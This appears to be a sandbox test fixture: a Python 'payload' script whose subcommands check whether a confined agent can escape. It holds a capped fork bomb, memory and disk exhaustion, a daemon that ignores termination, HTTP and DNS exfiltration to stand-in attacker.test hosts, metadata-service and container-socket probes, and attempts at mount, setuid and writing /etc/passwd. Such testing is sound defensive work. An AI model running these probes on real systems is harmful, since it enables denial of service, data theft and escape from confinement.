"""The attacker's programs. `got:` says what they got, `no:` what they did not; each stops by itself.

    python3 payload.py NAME [ARGUMENT]...
"""

import base64
import contextlib
import ctypes
import mmap
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.request

TRAP, PORT = "@TRAP@", int("@PORT@" if "@PORT@".isdigit() else 9)
FORKS, MEMORY_MIB, FILL_MIB, FLOOD_MIB = 400, 2048, 2560, 8
COLLECTOR = "collector.attacker.test"


def tell(what, answer):
    print(f"{'got' if answer else 'no'}: {what}", flush=True)


def reason(error):
    return getattr(error, "strerror", None) or str(getattr(error, "reason", error))


def forks():
    """Until the system says no. The children stay when their parent ends; each ends by itself after a minute."""
    children, why = 0, "it stopped by itself"
    while children < FORKS:
        try:
            child = os.fork()
        except OSError as error:
            why = error.strerror
            break
        if child == 0:
            signal.alarm(60)
            signal.pause()
        children += 1
    tell(f"{children} processes, then: {why}", children >= FORKS)


def memory():
    """Until killed."""
    taken = []
    for number in range(MEMORY_MIB // 64):
        taken.append(mmap.mmap(-1, 64 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE))
        print(f"{(number + 1) * 64} MiB taken", flush=True)
    tell(f"{MEMORY_MIB} MiB of memory", True)


def disk():
    """Every place that can be written, by blocks that are reserved and not written."""
    total = 0
    for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp", "/run"):
        taken, why = 0, "it stopped by itself"
        try:
            fd = os.open(f"{folder}/fill", os.O_WRONLY | os.O_CREAT | os.O_EXCL)
            while taken < FILL_MIB:
                os.posix_fallocate(fd, taken << 20, 16 << 20)
                taken += 16
        except OSError as error:
            why = error.strerror
        print(f"{folder}: {taken} MiB, then: {why}")
        total += taken
        with contextlib.suppress(OSError):
            os.unlink(f"{folder}/fill")
    tell(f"{total} MiB outside the workspace", total >= FILL_MIB)


def fill():
    """The workspace itself, by files of 256 MiB. Where a limit is watched and not built in, there is time to see it."""
    total, why = 0, "it stopped by itself"
    os.mkdir("fill")
    try:
        while total < FILL_MIB:
            with open(f"fill/{total}", "wb") as file:
                os.posix_fallocate(file.fileno(), 0, 256 << 20)
            total += 256
    except OSError as error:
        why = error.strerror
    if total >= FILL_MIB:
        time.sleep(4)
    tell(f"{total} MiB in the workspace, then: {why}", total >= FILL_MIB)
    shutil.rmtree("fill")


def big():
    """One file of 2 GiB in the workspace; no block of it is ever written."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    try:
        with open("big", "wb") as file:
            file.truncate(2 << 30)
        tell("a file of 2 GiB", True)
    except OSError as error:
        tell(f"a file of 2 GiB: {error.strerror}", False)
    os.unlink("big")


def flood():
    """More output than anybody can read."""
    line = b"A" * 1023 + b"\n"
    for _ in range(FLOOD_MIB):
        sys.stdout.buffer.write(line * 1024)


def daemon():
    """Leaves the call's session and goes on."""
    subprocess.Popen(
        [sys.executable, "payload.py", "stay", "@TOKEN@"],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    print("a daemon was left behind")


def stay():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    signal.alarm(600)
    signal.pause()


def look():
    """Whether the daemon is still there."""
    found = []
    for number in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError), open(f"/proc/{number}/cmdline", "rb") as file:
            if b"\0stay\0@TOKEN@" in file.read():
                found.append(number)
    tell(f"the daemon of the call before: {len(found)} left", found)


def fetch(url):
    try:
        with urllib.request.urlopen(url, timeout=5) as answer:
            tell(f"{url}: {answer.status}", True)
    except OSError as error:
        tell(f"{url}: {reason(error)}", False)


def http():
    fetch(f"http://{COLLECTOR}/?stolen=1")
    fetch(f"https://{COLLECTOR}/?stolen=1")
    connect("192.0.2.80", 80)


def lookalike():
    """Names that look like the one that may be open."""
    for name in (
        "packages.example.org.attacker.test",
        "packages-example.test",
        "packages.example.org@attacker.test",
        "xn--pckages-4fg.example.org",
        "PACKAGES.EXAMPLE.ORG.",
    ):
        port = ":8443" if name.endswith(".") else ""
        fetch(f"https://{name}{port}/simple/")


def dns():
    """Data in the name that is asked for; a resolver found by ourselves."""
    name = base64.b32encode(b"the secret").decode().strip("=").lower()
    try:
        socket.getaddrinfo(f"{name}.dns.attacker.test", 80)
        tell("an answer to a name", True)
    except OSError as error:
        tell(f"a name: {error.strerror}", False)
    for address, port in (("192.0.2.53", 53), ("127.0.0.1", PORT), ("127.0.0.53", 53)):
        question = b"\x13\x37\1\0\0\1\0\0\0\0\0\0" + bytes([len(name)]) + name.encode() + b"\6attack\4test\0\0\1\0\1"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
            channel.settimeout(0.5)
            try:
                channel.connect((address, port))
                channel.send(question)
                channel.recv(512)
                tell(f"resolver {address}", True)
            except OSError as error:
                tell(f"resolver {address}: {reason(error)}", False)


def connect(address, port):
    with socket.socket() as channel:
        channel.settimeout(2)
        try:
            channel.connect((address, port))
            channel.sendall(b"the secret\n")
            tell(f"{address}:{port}", True)
        except OSError as error:
            tell(f"{address}:{port}: {reason(error)}", False)


def host():
    """Something of the person's that listens, the engine's own socket, and a cloud's metadata service."""
    for address in ("127.0.0.1", "172.17.0.1", "10.0.2.2", "192.168.65.254", "169.254.169.254"):
        connect(address, PORT if address != "169.254.169.254" else 80)
    with socket.socket(socket.AF_UNIX) as channel:
        try:
            channel.connect(f"\0sandbox-agent-attack-{PORT}")
            tell("the machine's abstract socket", True)
        except OSError as error:
            tell(f"the machine's abstract socket: {error.strerror}", False)
    for path in ("/var/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock"):
        tell(path, os.path.lexists(path))
    if os.environ.get("http_proxy"):
        fetch(f"http://127.0.0.1:{PORT}/")


def kernel():
    """What only root may, and what nobody in a container may."""
    libc = ctypes.CDLL(None, use_errno=True)
    calls = {
        "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
        "a user namespace": lambda: libc.unshare(0x10000000),
        "setuid 0": lambda: libc.setuid(0),
        "chroot": lambda: libc.chroot(b"/tmp"),
    }
    for name, call in calls.items():
        ctypes.set_errno(0)
        result = call()
        tell(f"{name}: {os.strerror(ctypes.get_errno())}", result == 0)
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/etc/passwd", "/usr/bin/python3"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            tell(f"write {path}", True)
        except OSError as error:
            tell(f"write {path}: {error.strerror}", False)


if __name__ == "__main__":
    {
        "forks": forks, "memory": memory, "disk": disk, "fill": fill, "big": big, "flood": flood, "daemon": daemon,
        "stay": stay, "look": look, "http": http, "lookalike": lookalike, "dns": dns, "host": host, "kernel": kernel,
    }[sys.argv[1]]()  # fmt: skip
